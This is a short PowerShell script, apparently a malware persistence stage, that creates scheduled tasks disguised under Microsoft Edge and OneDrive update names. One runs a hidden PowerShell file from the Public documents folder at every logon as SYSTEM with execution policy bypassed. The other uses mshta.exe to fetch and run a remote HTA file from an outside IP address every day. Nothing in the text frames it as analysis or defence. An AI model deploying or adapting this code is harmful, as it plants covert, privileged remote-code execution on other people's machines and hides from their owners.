$taskName = 'MicrosoftEdgeUpdateTaskMachineUA2'
$ruAs = 'SYSTEM'

$existing = schtasks.exe /query /tn $taskName 2>$null
if (-not $existing) {
    schtasks.exe /create /tn $taskName /tr 'powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File C:\Users\Public\Documents\edge.ps1' /sc onlogon /ru $ruAs /rl HIGHEST /f
}

schtasks /create /tn "OneDriveStandaloneUpdate" /tr "mshta.exe http://198.51.100.23/o.hta" /sc daily /st 09:00 /f
schtasks.exe /query /tn $taskName /fo LIST | Out-Null
